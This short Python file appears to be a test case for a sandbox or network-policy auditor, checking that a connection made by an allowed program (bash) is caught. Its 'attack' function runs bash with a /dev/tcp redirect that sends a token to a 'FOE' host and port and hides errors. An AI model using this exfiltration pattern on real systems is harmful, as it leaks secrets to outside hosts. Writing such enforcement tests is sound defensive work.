"""A connection by an allowed program
Has bash, which is allowed, connect.
policy: network-of-children
audit: explicitlyDeniedIP
proof: arrival
"""
import subprocess


def attack(at):
    # What it complains about would stand in the log, in the middle of an audit's line.
    with open('/dev/null', 'w') as nowhere:
        subprocess.call(['/usr/bin/bash', '-c', 'echo %s > /dev/tcp/%s/%d' % (at.token.decode(), at.FOE, at.PORT)], stderr=nowhere)
    return True
